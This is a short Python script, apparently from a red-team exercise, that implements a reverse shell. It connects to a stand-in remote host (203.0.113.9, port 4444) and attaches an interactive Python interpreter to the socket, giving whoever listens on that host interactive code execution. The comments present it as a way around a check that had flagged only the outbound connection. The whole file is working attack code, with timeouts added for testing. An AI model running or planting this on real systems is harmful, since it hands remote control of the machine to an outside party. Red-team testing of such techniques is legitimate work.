# A reverse shell with no shell in it (red team, session 18): Python
# itself, interactive, with the connected socket as its stdin, stdout and
# stderr. Before, only the connection was a finding (medium).
import socket, subprocess, sys
s = socket.socket()
s.settimeout(3)
try:
    s.connect(("203.0.113.9", 4444))
except OSError as e:
    print("connect failed:", e, file=sys.stderr)
    sys.exit(0)
p = subprocess.Popen([sys.executable, "-i"], stdin=s, stdout=s, stderr=s)
try:
    p.wait(timeout=3)
except subprocess.TimeoutExpired:
    p.kill()
